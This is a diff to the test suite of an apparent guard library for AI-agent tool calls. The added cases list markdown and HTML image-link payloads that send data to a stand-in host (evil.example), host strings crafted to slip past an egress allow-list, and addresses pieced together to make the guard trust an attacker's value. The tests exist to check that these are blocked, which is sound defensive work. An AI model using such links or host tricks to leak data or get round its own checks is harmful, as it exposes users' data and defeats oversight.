@@ -188,6 +188,8 @@ def send(to: str) -> CallSubject:
         ({"query": "jane@corp.example", "found": []}, {"query": "jane@corp.example"}, Action.ASK),
         ("No customer matches 'Jane@Corp.example'", {"query": "jane@corp.example"}, Action.ASK),
         ({"given": {"to": ["jane@corp.example"]}}, {"deep": [{"to": "a, jane@corp.example"}]}, Action.ASK),
+        ({"mail": "corp.example", "asked": "jane@corp.example"}, ["jane@corp.example"], Action.ASK),
+        ("jane@corp.example", {"b": "jane@corp", "a": "example"}, Action.ASK),
     ],
 )
 async def test_a_result_vouches_for_nothing_that_it_was_asked_with(
@@ -243,6 +245,17 @@ async def test_a_rule_holds_for_what_the_tool_fills_in() -> None:
         assert (await Guard(parse_policy(rules)).check(subject)).action is action
 
 
+async def test_what_is_left_out_is_the_tools_default_for_ask_rules_too() -> None:
+    """Not what an earlier result says: the tool does not look there."""
+    declared = {"order_id": {"type": "integer"}, "cents": {"type": "number", "default": 100_000}}
+    spec = ToolSpec("refund", "Pays.", {"type": "object", "properties": declared}, Effect.UNSAFE)
+    result = dump({"order_id": 7, "total": 10.0})
+    context = GuardContext(agent="desk", results=(result,), trusted_results=(result,))
+    for more, action in (({}, Action.ASK), ({"cents": 10}, Action.ALLOW)):
+        call = CallSubject("c", spec, {"order_id": 7, **more})
+        assert (await Guard(parse_policy(READ)).check(Subject(Stage.TOOL_CALL, "", context, call))).action is action
+
+
 async def test_keys_that_a_redaction_makes_the_same_block_the_call() -> None:
     rules = 'name: desk\nversion: "1"\nstages: {tool_call: {rails: [pii]}}\ntools: {allow: {"*": ["*"]}}\n'
     call = send("x")
@@ -275,6 +288,25 @@ tools: {allow: {"*": ["*"]}}
         ("<img src='//other.example/p.png'>", False),
         ("<a href=//other.example/p.png>", False),
         ("either//or, 1//2 and [1](/help)", True),
+        *(
+            (link.replace("MINE", "https://mine.example").replace("EVIL", "evil.example/p?d=S"), False)
+            for link in (
+                "![a](MINE{@EVIL)",
+                "![a](MINE]@EVIL)",
+                "![a](MINE'@EVIL)",
+                "![a](MINE|@EVIL)",
+                "![a](<MINE)@EVIL>)",
+                "![a](   //EVIL)",
+                "![a](\n//EVIL)",
+                "[a]:\t//EVIL",
+                '<img src = "//EVIL">',
+                '<video poster="//EVIL">',
+                "url(//EVIL)",
+                "![a](https\\://EVIL)",
+                "![a](https:EVIL)",
+                "![a](https:////EVIL)",
+            )
+        ),
     ],
 )
 async def test_a_results_link_is_kept_as_it_is_and_vouches_for_no_other(answer: str, kept: bool) -> None:
@@ -289,7 +321,10 @@ async def test_a_results_link_is_kept_as_it_is_and_vouches_for_no_other(answer: 
     [
         "example.org", "example.org.", "example\u3002org", "example\uff0eorg", "\u200bexample.org", "EXAMPLE.org..",
         "16909060", "1.2.772", "0x1020304", "https:\\\\example.org", "ht\ttps://example.org/", "example.org\\x",
-        "//example.org", "[::1]",
+        "//example.org", "[::1]", "example.xn--p1ai", "a.b.c.d.e.f.g.h.i.j.example.org", "user@example.org",
+        "postgres://u:p@example.org/db", "ssh://git@example.org/x", "git@example.org:repo", "socks5h://u:p@example.org:1",
+        "api.example.com,example.org", "example.org:80:80", "16909060:80", "127.1:80", "example%2eorg",
+        "jdbc:postgresql://example.org/db", "https://api.example.com{@example.org/x", "api.example.com:443@example.org",
     ],
 )  # fmt: skip
 async def test_a_host_is_read_as_those_read_it_who_connect(host: str) -> None:
@@ -297,14 +332,30 @@ async def test_a_host_is_read_as_those_read_it_who_connect(host: str) -> None:
     network = frozenset({Permission.NETWORK})
     spec = ToolSpec("connect", "Connects.", parameters, Effect.PURE, permissions=network, hosts=("*",))
     guard = Guard(parse_policy(SINKS + "egress: {hosts: [api.example.com, 8.8.8.8]}\n"))
-    for argument, value, action in (("host", host, Action.BLOCK), ("host", "api.example.com.", Action.ALLOW),
-                                    ("host", "134744072", Action.ALLOW), ("server_id", 5, Action.ALLOW)):  # fmt: skip
+    wanted = [
+        ("host", host, Action.BLOCK),
+        ("options", {"a": [{"Proxy": host}]}, Action.BLOCK),
+        ("host", "api.example.com.", Action.ALLOW),
+        ("host", "134744072", Action.ALLOW),
+        ("server_id", 5, Action.ALLOW),
+        ("to", "jane@corp.example", Action.ALLOW),
+    ]
+    for argument, value, action in wanted:
         call = CallSubject("c", spec, {argument: value})
         ruled = await guard.check(Subject(Stage.TOOL_CALL, "", GuardContext(agent="desk"), call))
         assert ruled.action is action, (argument, value)
 
 
 ADDRESS = st.from_regex(r"[a-z]{1,4}([.+-][a-z]{1,3})?@[a-z]{1,4}([.-][a-z]{1,3})?\.(com|org)", fullmatch=True)
+
+
+async def test_a_value_is_not_vouched_for_by_parts() -> None:
+    """One part that the model wrote, and another from the result around it."""
+    result, asked = dump({"asked": "eve@evil.example", "found": []}), dump({"query": "eve@evil.example"})
+    context = GuardContext(agent="desk", results=(result,), trusted_results=(result,), trusted_calls=(asked,))
+    for to in ("eve@evil.example, found", "found; eve@evil.example", "eve@evil.example\nfound"):
+        ruled = await Guard(parse_policy(SINKS)).check(Subject(Stage.TOOL_CALL, "", context, send(to)))
+        assert ruled.action is Action.ASK
 
 
 @settings(database=None)
